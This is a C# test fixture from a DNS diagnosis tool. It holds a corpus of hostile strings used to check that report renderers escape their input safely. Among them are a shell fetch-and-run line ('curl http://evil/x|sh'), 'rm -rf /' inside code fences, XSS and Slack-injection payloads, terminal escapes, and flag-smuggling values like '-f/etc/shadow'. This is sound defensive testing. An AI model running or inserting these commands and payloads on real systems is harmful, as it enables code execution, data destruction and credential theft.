using DnsExpert.Contract;

namespace DnsExpert.Testing;

/// <summary>
/// Text a hostile snapshot or request could carry into a report: shell code, line breaks, terminal escapes, HTML,
/// Slack mentions and links, code fences, quotes, bidi overrides, very long strings, option-like values (<c>-f/etc/shadow</c>)
/// and bare URLs. Every renderer's tests use it
/// (shared through this library with the API tests).
/// </summary>
public static class HostileCorpus
{
    public static readonly IReadOnlyList<string> Values =
    [
        "coredns-x $(id) ; curl http://evil/x|sh #",
        "`id` and ``nested`` and ```",
        "web-0\r\nX-Injected: yes",
        "line one\nline two",
        "bare\rcarriage return",
        "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J",
        "nul\u0000 bel\u0007 bs\u0008 vt\u000b ff\u000c so\u000e us\u001f del\u007f c1\u0085\u009b31m",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "&amp; &lt;b&gt; & <b>",
        "<!channel> <!here> <@U123> <#C123|general> <http://evil|click> <!date^0^{date}|x>",
        "```\nrm -rf /\n```",
        "~~~\nrm -rf /\n~~~",
        "it's a 'quote' and \"double\" and \\back\\slash",
        "\u202Egnp.exe \u2066isolate\u2069 \u2028sep\u2029",
        "# heading\n- list\n> quote\n1. item\n| a | b |\n|---|---|",
        "pipe \\| in a cell | and a trailing backslash \\",
        "[click](http://evil/x) ![img](http://evil/y) *bold* _it_ ~strike~",
        "<!-- comment --> <style>body{display:none}</style>",
        new string('A', 100_000),
        new string('`', 20) + "<x>" + new string('\'', 20),

        // Options, not names: quoted or not, dig, kubectl and grep would read them as flags (dig -f reads a file).
        "-f/etc/shadow",
        "--kubeconfig=/tmp/evil",
        "-",
        "+tcp",
        "@203.0.113.66",
        "-x.example.com",

        // Bare links, which GitHub-flavoured Markdown and Slack would make clickable.
        "see https://evil.example/x and http://evil/y and ftp://evil/z",
    ];

    /// <summary>Theory data: the index of each value (short test names; the value is in the failure message).</summary>
    public static TheoryData<int> Indexes
    {
        get
        {
            var data = new TheoryData<int>();
            for (var i = 0; i < Values.Count; i++)
            {
                data.Add(i);
            }

            return data;
        }
    }

    /// <summary>A DNS path with <paramref name="value"/> in every name, address and reason: each kind of hop and status, more CoreDNS pods than are drawn.</summary>
    public static IReadOnlyList<DnsPathHop> Path(string value)
    {
        HopReason[] because = [new HopReason(value, value, value)];
        return
        [
            new DnsPathHop(HopKinds.Pod, value, value, HopStatus.Healthy, because),
            new DnsPathHop(HopKinds.NodeLocal, value, value, HopStatus.Unverified, []),
            new DnsPathHop(HopKinds.KubeDns, value, value, HopStatus.Failed, because),
            .. Enumerable.Range(0, 6).Select(_ => new DnsPathHop(HopKinds.CoreDns, value, value, HopStatus.Healthy, because)),
            new DnsPathHop(HopKinds.Upstream, value, value, HopStatus.Failed, because),
        ];
    }

    /// <summary>A completed diagnosis with <paramref name="value"/> in every text a cluster or a request can fill.</summary>
    public static DiagnosisResponse Response(string value) => new()
    {
        Id = value,
        CreatedAt = DateTimeOffset.UnixEpoch,
        Target = new TargetRef { Namespace = value, Pod = value },
        Domain = value,
        Classification = new ClassificationResult { Class = SymptomClass.NameNotFound, Explanation = value, Client = value, Name = value, Server = value },
        Findings =
        [
            new Finding
            {
                RuleId = value,
                Severity = Severity.Critical,
                Title = value,
                Cause = value,
                Evidence = [new Evidence(value, value)],
                Remediation = [new Remediation { Summary = value, Command = value, Snippet = value }],
                Ticket = new TicketPayload { Entries = [new TicketEntry(value, value, value, value)], CoreDnsNodes = [new TicketNode(value, value)] },
                Explains = [value],
                ExplainedBy = [value],
            },
        ],
        Collection = [new CollectionEntry(value, CollectionStatus.Failed, value)],
        DnsPath = Path(value),
        Hypotheses =
        [
            new Hypothesis { RuleId = value, Title = value, Status = HypothesisStatus.Unverified, Reason = value, Missing = [value], Checks = [new NextCheck(value, value, value)] },
            new Hypothesis { RuleId = value, Title = value, Status = HypothesisStatus.RuledOut, Reason = value },
        ],
        Links = new Dictionary<string, string> { ["report"] = value },
    };

    /// <summary>
    /// A diagnosis with <paramref name="findings"/> copies of <see cref="Response"/>'s finding, for a message that must be
    /// cut to fit; linked by <paramref name="links"/>.
    /// </summary>
    public static DiagnosisResponse Many(string value, int findings, IReadOnlyDictionary<string, string>? links = null)
    {
        var one = Response(value);
        return new DiagnosisResponse
        {
            Id = "d1", Classification = one.Classification, Collection = one.Collection, Hypotheses = one.Hypotheses, Links = links,
            Findings = [.. Enumerable.Range(0, findings).Select(_ => one.Findings[0])],
        };
    }
}
